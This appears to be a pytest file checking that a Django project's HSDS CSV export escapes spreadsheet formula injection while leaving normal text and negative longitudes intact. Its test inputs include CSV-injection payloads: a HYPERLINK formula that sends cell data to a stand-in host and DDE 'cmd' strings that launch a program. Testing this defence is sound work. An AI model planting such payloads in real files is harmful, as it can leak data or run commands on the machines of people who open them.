"""The HSDS CSV export opens safely in a spreadsheet: text that would start a formula is shown
as text, while numbers (a negative longitude) stay numbers."""

import csv
import io

import pytest
from django.core.management import call_command

from tests.factories import OrganizationFactory, ProgramFactory

pytestmark = pytest.mark.django_db


def exported(tmp_path, path: str) -> list[dict]:
    call_command("export_hsds", str(tmp_path), format="csv", stdout=io.StringIO())
    with open(tmp_path / "csv" / path, newline="", encoding="utf-8") as file:
        return list(csv.DictReader(file))


@pytest.mark.parametrize(
    "name",
    [
        '=HYPERLINK("https://evil.example/?"&A1,"Call us")',
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_a_name_that_is_a_formula_is_exported_as_text(tmp_path, name):
    ProgramFactory(name=name, organization=OrganizationFactory(name=name))
    (service,) = exported(tmp_path, "services.csv")
    assert service["name"] == "'" + name
    (organization,) = exported(tmp_path, "organizations.csv")
    assert organization["name"] == "'" + name


def test_ordinary_text_and_negative_coordinates_are_unchanged(tmp_path):
    ProgramFactory(name="Mission Recovery", latitude=37.75, longitude=-122.41)
    (service,) = exported(tmp_path, "services.csv")
    assert service["name"] == "Mission Recovery"
    (location,) = exported(tmp_path, "locations.csv")
    assert float(location["longitude"]) == pytest.approx(-122.41)
